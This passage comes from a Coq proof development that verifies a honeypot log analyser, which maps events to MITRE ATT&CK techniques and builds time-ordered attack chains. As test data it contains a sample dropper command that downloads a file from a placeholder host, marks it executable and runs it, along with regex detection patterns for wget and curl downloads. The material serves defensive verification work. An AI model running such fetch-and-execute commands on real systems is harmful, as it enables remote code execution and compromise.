               tactic_id := tactic data; tactic_name := tname;
               matched_pattern := p |}])%list.
Proof.
  unfold record_match.
  case_bool_decide as Htid; [intros [= <-]; auto|].
  destruct (TACTICS !! tactic data) as [tname|] eqn:Etac; [|discriminate].
  intros [= <-]. right. exists tname. simpl. auto.
Qed.

(** *** The outer loop *)

Lemma record_match_total m tid data p :
  is_Some (TACTICS !! tactic data) → ∃ m', record_match m tid data p = Ok m'.
Proof.
  intros [tname Ht]. unfold record_match. rewrite Ht.
  case_bool_decide; eauto.
Qed.

Lemma map_techniques_total catalog text : ∀ m,
  Forall entry_usable catalog →
  ∃ m', map_techniques catalog text m = Ok m'.
Proof.
  induction catalog as [|[tid data] rest IH]; intros m H; simpl; [eauto|].
  apply Forall_cons_1 in H as [[Hps Htac] Hrest]. simpl in *.
  destruct (first_matching_pattern_total _ text Hps) as [found ->]; simpl.
  destruct found as [p|]; [|now apply IH].
  destruct (record_match_total m tid data p Htac) as [m1 ->]; simpl.
  now apply IH.
Qed.

Lemma map_techniques_invariant full text : ∀ catalog m m',
  (∀ e, e ∈ catalog → e ∈ full) →
  well_formed m →
  Forall (from_catalog full text) (technique_details m) →
  map_techniques catalog text m = Ok m' →
  well_formed m' ∧ Forall (from_catalog full text) (technique_details m').
Proof.
  induction catalog as [|[tid data] rest IH]; intros m m' Hsub Hwf Hfrom;
    simpl.
  - intros [= <-]; auto.
  - destruct (first_matching_pattern (patterns data) text)
      as [found|] eqn:Efound; [simpl | discriminate].
    assert (Hrest : ∀ e, e ∈ rest → e ∈ full)
      by (intros e He; apply Hsub; now right).
    destruct found as [p|]; [|now apply IH].
    destruct (record_match m tid data p) as [m1|] eqn:Erec;
      [simpl | discriminate].
    apply IH; [assumption | eapply record_match_well_formed; eauto |].
    destruct (record_match_details _ _ _ _ _ Erec)
      as [-> | (tname & Htac & _ & _ & ->)]; [assumption|].
    apply Forall_app; split; [assumption|].
    constructor; [|constructor].
    exists data. simpl. repeat split; auto. apply Hsub; now left.
Qed.

Lemma map_techniques_no_hits catalog text : ∀ m,
  Forall (fun entry => Forall (no_hit text) (patterns entry.2)) catalog →
  map_techniques catalog text m = Ok m.
Proof.
  induction catalog as [|[tid data] rest IH]; intros m H; simpl;
    [reflexivity|].
  apply Forall_cons_1 in H as [Hps Hrest]; simpl in *.
  rewrite (first_matching_pattern_no_hits _ _ Hps); simpl. now apply IH.
Qed.

Lemma map_techniques_grows catalog text : ∀ m m',
  map_techniques catalog text m = Ok m' →
  (∀ d, d ∈ technique_details m → d ∈ technique_details m')
  ∧ (∀ tid, tid ∉ catalog.*1 → tid ∉ techniques m → tid ∉ techniques m').
Proof.
  induction catalog as [|[tid0 data] rest IH]; intros m m'; simpl.
  - intros [= <-]; auto.
  - destruct (first_matching_pattern (patterns data) text)
      as [found|] eqn:Efound; [simpl | discriminate].
    destruct found as [p|].
    + destruct (record_match m tid0 data p) as [m1|] eqn:Erec;
        [simpl | discriminate].
      intros H. destruct (IH _ _ H) as [Hd Ht]. split.
      * intros d Hin. apply Hd.
        destruct (record_match_details _ _ _ _ _ Erec)
          as [-> | (tname & _ & _ & _ & ->)]; [assumption|].
        apply elem_of_app; auto.
      * intros tid Hnot Hm. apply not_elem_of_cons in Hnot as [Hne Hnot].
        apply Ht; [assumption|].
        unfold record_match in Erec.
        case_bool_decide; [injection Erec as <-; assumption|].
        destruct (TACTICS !! tactic data); [|discriminate].
        injection Erec as <-; simpl.
        intros Hin. apply elem_of_app in Hin as [Hin | Hin]; [auto|].
        apply list_elem_of_singleton in Hin. congruence.
    + intros H. destruct (IH _ _ H) as [Hd Ht]. split; [assumption|].
      intros tid Hnot. apply not_elem_of_cons in Hnot as [_ Hnot]. auto.
Qed.

(** A technique of the catalog with a matching pattern is recorded,
    with its own name and tactic. *)
Lemma detail_recorded catalog text : ∀ m m' tid data p,
  NoDup catalog.*1 →
  (tid, data) ∈ catalog →
  tid ∉ techniques m →
  first_matching_pattern (patterns data) text = Ok (Some p) →
  map_techniques catalog text m = Ok m' →
  ∃ tname, TACTICS !! tactic data = Some tname
    ∧ {| technique_id := tid; technique_name := name data;
         tactic_id := tactic data; tactic_name := tname;
         matched_pattern := p |} ∈ technique_details m'.
Proof.
  induction catalog as [|[tid0 data0] rest IH];
    intros m m' tid data p Hnd Hin Hfresh Hp; simpl.
  - now apply elem_of_nil in Hin.
  - apply NoDup_cons in Hnd as [Hhead Hnd]. simpl in Hhead.
    apply elem_of_cons in Hin as [[= -> ->] | Hin].
    + rewrite Hp; simpl.
      destruct (record_match m tid0 data0 p) as [m1|] eqn:Erec;
        [simpl | discriminate].
      intros H. apply map_techniques_grows in H as [Hd _].
      destruct (record_match_details _ _ _ _ _ Erec)
        as [Hsame | (tname & Htac & _ & _ & Hnew)].
      * unfold record_match in Erec.
        case_bool_decide; [contradiction|].
        destruct (TACTICS !! tactic data0); [|discriminate].
        injection Erec as <-. simpl in Hsame.
        apply (f_equal length) in Hsame. rewrite length_app in Hsame.
        simpl in Hsame. lia.
      * exists tname. split; [assumption|]. apply Hd. rewrite Hnew.
        apply elem_of_app; right. now apply list_elem_of_singleton.
    + assert (Hne : tid ≠ tid0).
      { intros ->. apply Hhead.
        apply list_elem_of_fmap. now exists (tid0, data). }
      destruct (first_matching_pattern (patterns data0) text)
        as [found|] eqn:Efound; [simpl | discriminate].
      destruct found as [p0|]; [|now apply IH].
      destruct (record_match m tid0 data0 p0) as [m1|] eqn:Erec;
        [simpl | discriminate].
      apply IH; try assumption.
      unfold record_match in Erec.
      case_bool_decide; [injection Erec as <-; assumption|].
      destruct (TACTICS !! tactic data0); [|discriminate].
      injection Erec as <-; simpl.
      intros Hin'. apply elem_of_app in Hin' as [Hin' | Hin']; [auto|].
      apply list_elem_of_singleton in Hin'. congruence.
Qed.

(** *** The catalog of the source *)

Lemma catalog_usable : Forall entry_usable TECHNIQUE_MAPPINGS.
Proof.
  repeat constructor; simpl; vm_compute; eauto.
Qed.

Lemma catalog_keys_distinct : NoDup TECHNIQUE_MAPPINGS.*1.
Proof. apply (bool_decide_unpack _). vm_compute. exact I. Qed.

Lemma map_event_total event : ∃ m, map_event event = Ok m.
Proof. apply map_techniques_total, catalog_usable. Qed.

Lemma map_event_invariant event m :
  map_event event = Ok m →
  well_formed m
  ∧ Forall (from_catalog TECHNIQUE_MAPPINGS (combined_text event))
           (technique_details m).
Proof.
  apply map_techniques_invariant;
    [auto | apply empty_mapped_well_formed | constructor].
Qed.

End MitreFacts.

Module MitreTheorems.

Import Mitre MitreFacts.

Lemma detail_in_techniques m d :
  well_formed m → d ∈ technique_details m →
  technique_id d ∈ techniques m ∧ tactic_id d ∈ tactics m.
Proof.
  intros Hwf Hin. split.
  - rewrite (wf_details _ Hwf). apply list_elem_of_fmap. eauto.
  - apply (wf_tactic_of_detail _ Hwf). eauto.
Qed.

(** The text the patterns see, around the command. *)
Lemma combined_text_split event command :
  input event = Some command →
  combined_text event
  = Text.lower (Text.get_str (eventid event))
    +:+ (" " +:+ Text.lower command +:+ " ")
    +:+ Text.lower (Text.get_str (alert_msg event)).
Proof.
  intros H. unfold combined_text. rewrite H. simpl Text.get_str.
  rewrite !ReFacts.lower_app. change (Text.lower " ") with " ".
  rewrite !ReFacts.app_assoc_str. reflexivity.
Qed.

Lemma dropper_has_T1105 event :
  input event = Some Samples.dropper_command →
  first_matching_pattern ["wget\shttp"; "curl.*-o"; "scp.*download"]
    (combined_text event) = Ok (Some "wget\shttp").
Proof.
  intros H. apply (first_match_wins []); [constructor|].
  rewrite (combined_text_split _ _ H).
  erewrite ReFacts.search_compiled by (vm_compute; reflexivity).
  f_equal. apply ReFacts.search_re_around. vm_compute. reflexivity.
Qed.

Lemma command_event_has_T1059 event :
  eventid event = Some "cowrie.command.input" →
  ∃ p, first_matching_pattern
         ["bash"; "sh\s"; "python"; "perl"; "command\.input"]
         (combined_text event) = Ok (Some p).
Proof.
  intros H.
  apply (first_matching_pattern_hit _ _ "command\.input").
  - repeat constructor; vm_compute; eauto.
  - repeat first [apply list_elem_of_here | apply list_elem_of_further].
  - unfold combined_text. rewrite H. simpl Text.get_str.
    rewrite ReFacts.lower_app.
    erewrite ReFacts.search_compiled by (vm_compute; reflexivity).
    f_equal. apply ReFacts.search_re_app_r. vm_compute. reflexivity.
Qed.

(** C4, as amended: an event whose input is the dropper command maps
    to T1105 (Ingress Tool Transfer) under TA0011 whatever its other
    fields are, and to T1059 (Command and Scripting Interpreter) under
    TA0002 when its eventid is cowrie.command.input. *)
Theorem dropper_command_techniques event :
  input event = Some Samples.dropper_command →
  ∃ m, map_event event = Ok m
    ∧ (∃ d, d ∈ technique_details m
         ∧ technique_id d = "T1105"
         ∧ technique_name d = "Ingress Tool Transfer"
         ∧ tactic_id d = "TA0011"
         ∧ tactic_name d = "Command and Control"
         ∧ matched_pattern d = "wget\shttp")
    ∧ "T1105" ∈ techniques m ∧ "TA0011" ∈ tactics m
    ∧ (eventid event = Some "cowrie.command.input" →
       (∃ d, d ∈ technique_details m
          ∧ technique_id d = "T1059"
          ∧ technique_name d = "Command and Scripting Interpreter"
          ∧ tactic_id d = "TA0002"
          ∧ tactic_name d = "Execution")
       ∧ "T1059" ∈ techniques m ∧ "TA0002" ∈ tactics m).
Proof.
  intros Hinput.
  destruct (map_event_total event) as [m Hm]. exists m.
  destruct (map_event_invariant _ _ Hm) as [Hwf _].
  split; [exact Hm|].
  destruct (detail_recorded TECHNIQUE_MAPPINGS (combined_text event)
              empty_mapped m "T1105"
              (technique "Ingress Tool Transfer" "TA0011"
                 ["wget\shttp"; "curl.*-o"; "scp.*download"])
              "wget\shttp" catalog_keys_distinct)
    as (tname & Htname & Hd); try assumption.
  { repeat first [apply list_elem_of_here | apply list_elem_of_further]. }
  { intros H; now apply elem_of_nil in H. }
  { now apply dropper_has_T1105. }
  vm_compute in Htname. injection Htname as <-.
  destruct (detail_in_techniques _ _ Hwf Hd) as [Hte Hta].
  split; [eexists; split; [exact Hd | repeat split]|].
  split; [exact Hte|]. split; [exact Hta|].
  intros Heid.
  destruct (command_event_has_T1059 _ Heid) as [p Hp].
  destruct (detail_recorded TECHNIQUE_MAPPINGS (combined_text event)
              empty_mapped m "T1059"
              (technique "Command and Scripting Interpreter" "TA0002"
                 ["bash"; "sh\s"; "python"; "perl"; "command\.input"])
              p catalog_keys_distinct)
    as (tname & Htname & Hd'); try assumption.
  { repeat first [apply list_elem_of_here | apply list_elem_of_further]. }
  { intros H; now apply elem_of_nil in H. }
  vm_compute in Htname. injection Htname as <-.
  destruct (detail_in_techniques _ _ Hwf Hd') as [Hte' Hta'].
  split; [eexists; split; [exact Hd' | repeat split]|].
  split; [exact Hte' | exact Hta'].
Qed.

(** The amended C4 at the command as the shell honeypot reports it. *)
Lemma dropper_command_techniques_witness :
  input Samples.dropper_cowrie = Some Samples.dropper_command
  ∧ eventid Samples.dropper_cowrie = Some "cowrie.command.input"
  ∧ ∃ m, map_event Samples.dropper_cowrie = Ok m
      ∧ "T1105" ∈ techniques m ∧ "TA0011" ∈ tactics m
      ∧ "T1059" ∈ techniques m ∧ "TA0002" ∈ tactics m.
Proof.
  split; [reflexivity|]. split; [reflexivity|].
  destruct (dropper_command_techniques Samples.dropper_cowrie eq_refl)
    as (m & Hm & _ & H1 & H2 & H3).
  destruct (H3 eq_refl) as (_ & H4 & H5).
  exists m. repeat split; assumption.
Defined.

(** C4, as stated, fails: on the event that has the input field only,
    T1105 is mapped and T1059 is not. *)
Lemma dropper_input_only_misses_T1059 :
  input Samples.dropper_input_only
    = Some "wget http://x/y && chmod +x y && ./y"
  ∧ ∃ m, map_event Samples.dropper_input_only = Ok m
      ∧ techniques m = ["T1071"; "T1105"]
      ∧ tactics m = ["TA0011"]
      ∧ ("T1059" ∉ techniques m)
      ∧ ("TA0002" ∉ tactics m).
Proof.
  split; [reflexivity|].
  eexists. split; [vm_compute; reflexivity|].
  split; [reflexivity|]. split; [reflexivity|].
  split; intros H; simpl in H;
    repeat (apply elem_of_cons in H as [H|H]; [discriminate|]);
    now apply elem_of_nil in H.
Qed.

(** C5: each technique and each tactic is recorded at most once; the
    pattern a detail names is the first pattern of its technique that
    matches, and what follows a matching pattern has no part in the
    outcome; with no matching pattern the three collections are empty.
    The call never raises. *)
Theorem map_event_records_once event :
  ∃ m, map_event event = Ok m
    ∧ NoDup (techniques m)
    ∧ techniques m = technique_id <$> technique_details m
    ∧ NoDup (tactics m)
    ∧ (∀ t, t ∈ tactics m
            ↔ ∃ d, d ∈ technique_details m ∧ tactic_id d = t)
    ∧ (∀ d, d ∈ technique_details m →
         ∃ data pre post,
           (technique_id d, data) ∈ TECHNIQUE_MAPPINGS
           ∧ tactic_id d = tactic data
           ∧ patterns data = (pre ++ matched_pattern d :: post)%list
           ∧ Forall (no_hit (combined_text event)) pre
           ∧ Re.search true (matched_pattern d) (combined_text event)
             = Ok true)
    ∧ (∀ pre p post text,
         Forall (no_hit text) pre →
         Re.search true p text = Ok true →
         first_matching_pattern (pre ++ p :: post) text = Ok (Some p))
    ∧ ((∀ tid data p,
          (tid, data) ∈ TECHNIQUE_MAPPINGS → p ∈ patterns data →
          no_hit (combined_text event) p) →
       m = empty_mapped).
Proof.
  destruct (map_event_total event) as [m Hm]. exists m.
  destruct (map_event_invariant _ _ Hm) as [[Hte Hta Hd Htd] Hfrom].
  split; [exact Hm|]. split; [exact Hte|]. split; [exact Hd|].
  split; [exact Hta|]. split; [exact Htd|].
  split.
  { intros d Hin. rewrite Forall_forall in Hfrom.
    destruct (Hfrom d Hin) as (data & Hcat & _ & Htac & _ & Hfirst).
    destruct (first_matching_pattern_some _ _ _ Hfirst)
      as (pre & post & Hps & Hpre & Hhit).
    exists data, pre, post. auto. }
  split; [exact first_match_wins|].
  intros Hnone.
  assert (Hsame : map_event event = Ok empty_mapped).
  { apply map_techniques_no_hits. apply Forall_forall.
    intros [tid data] Hin. apply Forall_forall. intros p Hp.
    eapply Hnone; eauto. }
  congruence.
Qed.

(** A pattern after the matching one is not even compiled. *)
Example later_pattern_not_tested :
  Re.search true "a**" "wget x" = Raise ReError
  ∧ first_matching_pattern ["curl"; "wget"; "a**"] "wget x" = Ok (Some "wget").
Proof.
  split; [now apply ReFacts.search_raises|].
  apply (first_match_wins ["curl"]); [repeat constructor|]; reflexivity.
Qed.

(** The event [{}] matches no pattern. *)
Example map_event_of_empty_event : map_event empty_event = Ok empty_mapped.
Proof. vm_compute. reflexivity. Qed.

End MitreTheorems.

(** ** The attack chain *)

Module ChainFacts.

Import Mitre MitreFacts.

(** *** The order on time stamps *)

Lemma leb_empty s : String.leb "" s = true.
Proof. destruct s; reflexivity. Qed.

Lemma compare_refl s : String.compare s s = Eq.
Proof.
  induction s as [|x s IH]; simpl; [reflexivity|].
  unfold Ascii.compare. rewrite N.compare_refl. exact IH.
Qed.

Lemma leb_refl s : String.leb s s = true.
Proof. unfold String.leb. rewrite compare_refl. reflexivity. Qed.

Lemma leb_trans a : ∀ b c,
  String.leb a b = true → String.leb b c = true → String.leb a c = true.
Proof.
  unfold String.leb.
  induction a as [|x a IH]; intros [|y b] [|z c]; simpl;
    try reflexivity; try discriminate.
  unfold Ascii.compare.
  destruct (N.compare_spec (N_of_ascii x) (N_of_ascii y));
    destruct (N.compare_spec (N_of_ascii y) (N_of_ascii z));
    destruct (N.compare_spec (N_of_ascii x) (N_of_ascii z));
    try reflexivity; try discriminate; try lia.
  apply IH.
Qed.

Lemma leb_false_flip a b : String.leb a b = false → String.leb b a = true.
Proof.
  intros H. destruct (String.leb_total a b) as [H' | H']; congruence.
Qed.

(** *** [sorted] *)

Lemma insert_by_timestamp_perm e l : insert_by_timestamp e l ≡ₚ e :: l.
Proof.
  induction l as [|x l IH]; simpl; [reflexivity|].
  destruct (String.leb _ _); [reflexivity|].
  rewrite IH. apply Permutation_swap.
Qed.

Lemma sorted_by_timestamp_perm l : sorted_by_timestamp l ≡ₚ l.
Proof.
  induction l as [|x l IH]; simpl; [reflexivity|].
  rewrite insert_by_timestamp_perm. now rewrite IH.
Qed.

Lemma insert_by_timestamp_sorted e l :
  StronglySorted event_le l → StronglySorted event_le (insert_by_timestamp e l).
Proof.
  induction 1 as [|x l Hl IH Hx]; simpl.
  - repeat constructor.
  - destruct (String.leb (timestamp_key e) (timestamp_key x)) eqn:E.
    + constructor; [now constructor|].
      constructor; [exact E|].
      eapply Forall_impl; [exact Hx|].
      intros y Hy. eapply leb_trans; [exact E | exact Hy].
    + constructor; [exact IH|].
      rewrite insert_by_timestamp_perm.
      constructor; [now apply leb_false_flip | exact Hx].
Qed.

Lemma sorted_by_timestamp_sorted l :
  StronglySorted event_le (sorted_by_timestamp l).
Proof.
  induction l as [|x l IH]; simpl; [constructor|].
  now apply insert_by_timestamp_sorted.
Qed.

(** The sort is stable: events with one key keep their order. *)
Lemma insert_by_timestamp_stable k e l :
  filter (fun x => timestamp_key x = k) (insert_by_timestamp e l)
  = filter (fun x => timestamp_key x = k) (e :: l).
Proof.
  induction l as [|y l IH]; simpl; [reflexivity|].
  destruct (String.leb (timestamp_key e) (timestamp_key y)) eqn:E;
    [reflexivity|].
  rewrite !filter_cons, IH, !filter_cons.
  destruct (decide (timestamp_key y = k)) as [Hy|Hy];
    destruct (decide (timestamp_key e = k)) as [He|He]; try reflexivity.
  rewrite Hy, He, leb_refl in E. discriminate.
Qed.

Lemma sorted_by_timestamp_stable k l :
  filter (fun x => timestamp_key x = k) (sorted_by_timestamp l)
  = filter (fun x => timestamp_key x = k) l.
Proof.
  induction l as [|e l IH]; simpl; [reflexivity|].
  rewrite insert_by_timestamp_stable, !filter_cons, IH. reflexivity.
Qed.

Lemma missing_timestamp_sorts_first e e' :
  timestamp e = None → event_le e e'.
Proof.
  intros H. unfold event_le, key_le, timestamp_key. rewrite H.
  apply leb_empty.
Qed.

(** *** The loops of [get_attack_chain] *)

Lemma chain_details_spec event all : ∀ details chain seen,
  (∀ d, d ∈ details → d ∈ all) →
  chain_inv chain seen →
  ∃ added,
    (chain_details event details chain seen).1 = (chain ++ added)%list
    ∧ chain_inv (chain_details event details chain seen).1
                (chain_details event details chain seen).2
    ∧ Forall (step_of event all) added.
Proof.
  induction details as [|d rest IH]; intros chain seen Hsub Hinv; simpl.
  - exists []. rewrite app_nil_r. auto.
  - assert (Hrest : ∀ d', d' ∈ rest → d' ∈ all)
      by (intros d' Hd'; apply Hsub; now right).
    case_bool_decide as Hseen; [now apply IH|].
    set (step := {| step_tactic := tactic_name d;
                    step_tactic_id := tactic_id d;
                    step_technique := technique_name d;
                    step_technique_id := technique_id d;
                    step_timestamp := timestamp event;
                    step_evidence := evidence_of event |}).
    destruct Hinv as [Hnd Hmem].
    destruct (IH (chain ++ [step])%list ({[tactic_id d]} ∪ seen) Hrest)
      as (added & Heq & Hinv' & Hadded).
    { split.
      - rewrite fmap_app. apply NoDup_app. repeat split; auto.
        + intros t Ht Ht'. apply list_elem_of_singleton in Ht'. subst t.
          apply Hseen, Hmem, Ht.
        + apply NoDup_singleton.
      - intros t. rewrite fmap_app, elem_of_app, elem_of_union, Hmem.
        simpl. rewrite elem_of_singleton, list_elem_of_singleton. tauto. }
    exists (step :: added). split.
    { rewrite Heq, <- app_assoc. reflexivity. }
    split; [exact Hinv'|].
    constructor; [|exact Hadded].
    repeat split. exists d. repeat split. apply Hsub. now left.
Qed.

Lemma detail_tactic_in_catalog event m d :
  map_event event = Ok m → d ∈ technique_details m →
  tactic_id d ∈ catalog_tactics.
Proof.
  intros Hm Hd. destruct (map_event_invariant _ _ Hm) as [_ Hfrom].
  rewrite Forall_forall in Hfrom.
  destruct (Hfrom d Hd) as (data & Hcat & _ & -> & _).
  apply elem_of_list_to_set, list_elem_of_fmap.
  exists (technique_id d, data). auto.
Qed.

Lemma chain_events_spec : ∀ evs chain seen,
  chain_inv chain seen →
  ∃ groups chain',
    chain_events evs chain seen = Ok chain'
    ∧ chain' = (chain ++ concat groups)%list
    ∧ NoDup (step_tactic_id <$> chain')
    ∧ Forall2 (fun event group => Forall (step_from event) group) evs groups.
Proof.
  induction evs as [|event rest IH]; intros chain seen Hinv; simpl.
  - exists [], chain. simpl. rewrite app_nil_r.
    repeat split; [apply Hinv | constructor].
  - destruct (map_event_total event) as [m Hm]. rewrite Hm. simpl.
    destruct (chain_details_spec event (technique_details m)
                (technique_details m) chain seen (fun _ H => H) Hinv)
      as (added & Heq & Hinv' & Hadded).
    destruct (chain_details event (technique_details m) chain seen)
      as [chain1 seen1]. simpl in *. subst chain1.
    destruct (IH _ _ Hinv') as (groups & chain' & Hrun & -> & Hnd & Hgroups).
    exists (added :: groups). eexists. split; [exact Hrun|].
    split; [simpl; now rewrite app_assoc|].
    split; [exact Hnd|].
    constructor; [|exact Hgroups].
    eapply Forall_impl; [exact Hadded|].
    intros st (Hts & Hev & d & Hd & Htac & _). repeat split; auto.
    rewrite Htac. eapply detail_tactic_in_catalog; eauto.
Qed.

Lemma groups_sorted : ∀ evs groups,
  StronglySorted event_le evs →
  Forall2 (fun event group => Forall (step_from event) group) evs groups →
  StronglySorted step_le (concat groups)
  ∧ Forall (fun st => ∃ event, event ∈ evs
              ∧ step_key st = timestamp_key event) (concat groups).
Proof.
  intros evs groups Hsorted H. revert Hsorted.
  induction H as [|event group evs groups Hg _ IH]; intros Hsorted; simpl.
  - split; constructor.
  - apply StronglySorted_inv in Hsorted as [Hrest Hhead].
    destruct (IH Hrest) as [IHs IHk].
    assert (Hkeys : Forall (fun st => step_key st = timestamp_key event) group).
    { eapply Forall_impl; [exact Hg|]. intros st (Hts & _).
      unfold step_key, timestamp_key. now rewrite Hts. }
    split.
    + apply StronglySorted_app_2; [| |exact IHs].
      * intros st1 st2 H1 H2.
        rewrite Forall_forall in Hkeys. rewrite Forall_forall in IHk.
        destruct (IHk _ H2) as (event2 & Hin & Hk2).
        unfold step_le, key_le. rewrite (Hkeys _ H1), Hk2.
        rewrite Forall_forall in Hhead. now apply Hhead.
      * clear -Hkeys. induction Hkeys as [|st group Hst Hrest IHg];
          constructor; [exact IHg|].
        eapply Forall_impl; [exact Hrest|]. intros st' Hst'.
        unfold step_le, key_le. rewrite Hst, Hst'. apply leb_refl.
    + apply Forall_app. split.
      * eapply Forall_impl; [exact Hkeys|]. intros st Hst.
        exists event. split; [now left | exact Hst].
      * eapply Forall_impl; [exact IHk|]. intros st (ev & Hin & Hk).
        exists ev. split; [now right | exact Hk].
Qed.

Lemma catalog_tactics_count :
  size catalog_tactics = 13 ∧ size TACTICS = 13
  ∧ ∀ t, t ∈ catalog_tactics ↔ is_Some (TACTICS !! t).
Proof.
  split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
  intros t. rewrite <- elem_of_dom.
  assert (E : catalog_tactics = dom TACTICS)
    by (apply (bool_decide_unpack _); vm_compute; exact I).
  now rewrite E.
Qed.

Lemma distinct_tactics_bound (l : list string) :
  NoDup l → (∀ t, t ∈ l → t ∈ catalog_tactics) →
  (length l ≤ size catalog_tactics)%nat.
Proof.
  intros Hnd Hsub. unfold size, set_size. simpl.
  apply submseteq_length, NoDup_submseteq; [exact Hnd|].
  intros t Ht. apply elem_of_elements, Hsub, Ht.
Qed.

End ChainFacts.

Module ChainTheorems.

Import Mitre MitreFacts ChainFacts.

(** C6: the chain has at most one step per tactic id and no more steps
    than the catalog has tactics (13); its steps come group by group
    from the events in the order of the stable sort by time stamp
    (ascending, ties in input order), so their time stamps ascend, an
    event with no time stamp sorting with the key [""], before every
    other. *)
Theorem attack_chain_one_step_per_tactic (evs : list Event) :
  ∃ chain, get_attack_chain evs = Ok chain
    ∧ NoDup (step_tactic_id <$> chain)
    ∧ (length chain ≤ size catalog_tactics)%nat
    ∧ size catalog_tactics = 13%nat
    ∧ size TACTICS = 13%nat
    ∧ (∃ groups,
         chain = concat groups
         ∧ Forall2 (fun event group =>
                      Forall (fun step =>
                                step_timestamp step = timestamp event
                                ∧ step_evidence step = evidence_of event)
                             group)
                   (sorted_by_timestamp evs) groups)
    ∧ sorted_by_timestamp evs ≡ₚ evs
    ∧ StronglySorted event_le (sorted_by_timestamp evs)
    ∧ (∀ k, filter (fun e => timestamp_key e = k) (sorted_by_timestamp evs)
            = filter (fun e => timestamp_key e = k) evs)
    ∧ StronglySorted step_le chain
    ∧ (∀ e e', timestamp e = None →
               timestamp_key e = ""
               ∧ String.leb (timestamp_key e) (timestamp_key e') = true).
Proof.
  unfold get_attack_chain.
  destruct (chain_events_spec (sorted_by_timestamp evs) [] ∅)
    as (groups & chain & Hrun & Heq & Hnd & Hgroups).
  { split; [constructor|]. intros t. simpl. set_solver. }
  simpl in Heq. subst chain.
  destruct (groups_sorted _ _ (sorted_by_timestamp_sorted evs) Hgroups)
    as [Hsorted _].
  exists (concat groups). split; [exact Hrun|]. split; [exact Hnd|].
  split.
  { rewrite <- (length_fmap step_tactic_id).
    apply distinct_tactics_bound; [exact Hnd|].
    intros t Ht. apply list_elem_of_fmap in Ht as (st & -> & Hst).
    apply list_elem_of_In, in_concat in Hst as (group & Hgroup & Hst).
    apply list_elem_of_In in Hgroup, Hst.
    apply list_elem_of_lookup in Hgroup as [i Hi].
    destruct (Forall2_lookup_r _ _ _ _ _ Hgroups Hi) as (event & _ & Hall).
    rewrite Forall_forall in Hall. now destruct (Hall st Hst) as (_ & _ & ?). }
  split; [apply catalog_tactics_count|].
  split; [apply catalog_tactics_count|].
  split.
  { exists groups. split; [reflexivity|].
    eapply Forall2_impl; [exact Hgroups|].
    intros event group Hall. eapply Forall_impl; [exact Hall|].
    intros st (? & ? & _). auto. }
  split; [apply sorted_by_timestamp_perm|].
  split; [apply sorted_by_timestamp_sorted|].
  split; [intros k; apply sorted_by_timestamp_stable|].
  split; [exact Hsorted|].
  intros e e' Hnone. split.
  - unfold timestamp_key. now rewrite Hnone.
  - now apply missing_timestamp_sorts_first.
Qed.

(** C10: whatever the list of events, the empty one included, the
    wrapper raises [NameError] and leaves [_mapper_instance] unset, so
    every later call does the same; [MitreMapper] is no name of the
    module and [map_to_mitre] no method of its class. *)
Theorem map_to_mitre_bulk_raises_name_error (evs : list Event) :
  map_to_mitre_bulk None evs = (Raise NameError, None)
  ∧ map_to_mitre_bulk None [] = (Raise NameError, None)
  ∧ (∀ mapped, (map_to_mitre_bulk None evs).1 ≠ Ok mapped)
  ∧ module_globals !! "MitreMapper" = None
  ∧ module_globals !! "MitreAttackMapper" = Some (ClassObject MitreAttackMapper)
  ∧ ("map_to_mitre" ∉ methods_of MitreAttackMapper)
  ∧ (∀ calls : list (list Event),
       bulk_calls None calls = (fun _ => Raise NameError) <$> calls).
Proof.
  assert (Hcall : ∀ l, map_to_mitre_bulk None l = (Raise NameError, None)).
  { intros l. reflexivity. }
  split; [apply Hcall|]. split; [apply Hcall|].
  split; [intros mapped; rewrite Hcall; discriminate|].
  split; [reflexivity|]. split; [reflexivity|].
  split.
  { intros H. simpl in H.
    repeat (apply elem_of_cons in H as [H|H]; [discriminate|]).
    now apply elem_of_nil in H. }
  induction calls as [|l calls IH]; [reflexivity|].
  simpl bulk_calls. rewrite Hcall. simpl. now rewrite IH.
Qed.

End ChainTheorems.

(** ** Correlation engine *)

Module CorrelationFacts.

Import Correlation.

Lemma not_raises_returns {A : Type} (r : result A) :
  ¬ raises r → ∃ a, r = Ok a.
Proof.
  destruct r as [a|e]; [eauto|]. intros H. exfalso. apply H. now exists e.
Qed.

Section WithStore.

Variable es_search : SearchRequest → result SearchResponse.
Variable utcnow : datetime.
Variable isoformat : datetime → string.
Variable fromisoformat : string → result datetime.
Variable float_sum : list Float64.float → Float64.float.
Variable float_pow : Float64.float → Z → Float64.float.

(** The three lists of a correlation and its counts. *)
Lemma correlate_by_ip_sources ip range :
  let r := effective_range utcnow range in
  let result := correlate_by_ip es_search utcnow isoformat ip range in
  cowrie (events result)
    = _query_cowrie_by_ip es_search isoformat ip r.1 r.2
  ∧ dionaea (events result)
    = _query_dionaea_by_ip es_search isoformat ip r.1 r.2
  ∧ snort (events result)
    = _query_snort_by_ip es_search isoformat ip r.1 r.2
  ∧ total_events (summary result)
    = (length (cowrie (events result))
       + length (dionaea (events result))
       + length (snort (events result)))%nat
  ∧ cowrie_events (summary result) = length (cowrie (events result))
  ∧ dionaea_events (summary result) = length (dionaea (events result))
  ∧ snort_alerts (summary result) = length (snort (events result)).
Proof.
  unfold correlate_by_ip. destruct (effective_range utcnow range).
  simpl. repeat split.
Qed.

Lemma intervals_of_cons previous current rest :
  intervals_of fromisoformat (previous :: current :: rest)
  = (let* later := fromisoformat (Text.replace_Z current) in
     let* earlier := fromisoformat (Text.replace_Z previous) in
     let* delta := dt_sub later earlier in
     let* more := intervals_of fromisoformat (current :: rest) in
     Ok (total_seconds delta :: more)).
Proof. reflexivity. Qed.

(** One interval for each pair of neighbours. *)
Lemma intervals_of_length : ∀ stamps intervals,
  intervals_of fromisoformat stamps = Ok intervals →
  length intervals = pred (length stamps).
Proof.
  induction stamps as [|a rest IH]; intros intervals.
  - intros [= <-]. reflexivity.
  - destruct rest as [|b rest]; [intros [= <-]; reflexivity|].
    rewrite intervals_of_cons.
    destruct (fromisoformat (Text.replace_Z b)); [|discriminate].
    destruct (fromisoformat (Text.replace_Z a)); [|discriminate].
    cbn [rbind]. destruct (dt_sub _ _); [|discriminate]. cbn [rbind].
    destruct (intervals_of fromisoformat (b :: rest)) as [more|];
      [|discriminate].
    cbn [rbind]. intros [= <-]. simpl length.
    now rewrite (IH more eq_refl).
Qed.

Lemma automation_analysis_true shell :
  automation_analysis fromisoformat float_sum float_pow shell = Ok true ↔
  (5 < length shell)%nat
  ∧ (2 ≤ length (timestamps_of shell))%nat
  ∧ ∃ intervals,
